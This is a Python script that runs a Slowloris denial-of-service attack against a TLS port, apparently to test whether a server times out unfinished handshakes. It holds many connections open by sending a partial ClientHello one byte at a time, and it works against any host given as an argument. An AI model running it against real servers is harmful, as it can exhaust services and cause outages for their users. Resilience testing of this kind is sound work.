#!/usr/bin/env python3
"""Slowloris against a TLS port: N TCP connections that each start a TLS ClientHello and then
send one more byte every few seconds, never finishing it.

Opens the connections in batches, holds them for HOLD seconds, and prints one line:
  opened=N failed_to_open=F closed_by_server=C first_close_s=A last_close_s=B still_open=S
where the times are measured from the moment the last connection was opened. A server that
bounds its handshakes closes every one of them; one that does not leaves them open.

usage: slowloris.py HOST PORT N HOLD_SECONDS
"""
import asyncio
import sys
import time

# A TLS 1.2 handshake record header announcing a 512-byte ClientHello, then its first bytes.
RECORD_START = bytes([0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xFC, 0x03, 0x03])
DRIP_SECONDS = 2
BATCH = 250


async def open_one(host, port):
    try:
        reader, writer = await asyncio.wait_for(asyncio.open_connection(host, port), 30)
        writer.write(RECORD_START[:3])
        await writer.drain()
        return reader, writer
    except (OSError, asyncio.TimeoutError):
        return None


async def hold(reader, writer, deadline, closes, start):
    """Drips one byte at a time until the server closes the connection or the deadline."""
    sent = 3
    loop = asyncio.get_running_loop()
    while loop.time() < deadline:
        try:
            data = await asyncio.wait_for(reader.read(1024), DRIP_SECONDS)
            if not data:  # EOF: the server closed it
                closes.append(time.monotonic() - start[0])
                break
        except asyncio.TimeoutError:
            if sent < len(RECORD_START):
                writer.write(RECORD_START[sent:sent + 1])
                sent += 1
            else:
                writer.write(b"\x00")  # more ClientHello body, still far from complete
            try:
                await writer.drain()
            except OSError:
                closes.append(time.monotonic() - start[0])
                break
        except OSError:  # reset by the server
            closes.append(time.monotonic() - start[0])
            break
    writer.close()


async def main(host, port, count, hold_seconds):
    connections = []
    for first in range(0, count, BATCH):
        batch = await asyncio.gather(*(open_one(host, port)
                                       for _ in range(min(BATCH, count - first))))
        connections.extend(c for c in batch if c is not None)
    failed = count - len(connections)
    start = [time.monotonic()]
    deadline = asyncio.get_running_loop().time() + hold_seconds
    closes = []
    await asyncio.gather(*(hold(r, w, deadline, closes, start) for r, w in connections))
    first = min(closes) if closes else -1
    last = max(closes) if closes else -1
    print(f"opened={len(connections)} failed_to_open={failed} closed_by_server={len(closes)} "
          f"first_close_s={first:.1f} last_close_s={last:.1f} "
          f"still_open={len(connections) - len(closes)}", flush=True)


if __name__ == "__main__":
    if len(sys.argv) != 5:
        sys.exit(__doc__)
    asyncio.run(main(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])))
